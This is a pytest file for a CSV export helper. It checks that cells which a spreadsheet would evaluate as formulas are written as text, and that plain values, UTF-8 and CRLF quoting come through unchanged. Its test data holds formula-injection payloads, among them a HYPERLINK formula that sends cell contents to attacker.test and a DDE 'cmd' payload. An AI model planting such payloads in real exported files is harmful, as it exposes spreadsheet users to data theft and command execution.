"""A CSV the product writes opens in a spreadsheet as text: no cell is taken for a formula."""

from __future__ import annotations

import csv
import io

import pytest

from briefs.csvsafe import csv_bytes, safe_cell

FORMULAS = ['=HYPERLINK("https://attacker.test/?"&A1,"Open")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3",
            "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\uff1d1+1", "-", "+", "@"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text(text: str) -> None:
    [row] = list(csv.reader(io.StringIO(csv_bytes([[text, "Ann"]]).decode("utf-8"), newline="")))
    assert row == ["'" + text, "Ann"]


@pytest.mark.parametrize("text", ["Ann", "42", "-12", "+3.5", "2026-11-30", "ann@example.org", "Anna Müller.pdf", "", "a=b", "O'Brien"])
def test_plain_text_and_plain_numbers_are_written_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


def test_the_rows_are_utf8_with_crlf_and_quoted_where_needed() -> None:
    assert csv_bytes([["name", "file"], ["Zoë, Ann", 'a "b"']]) == 'name,file\r\n"Zoë, Ann","a ""b"""\r\n'.encode()
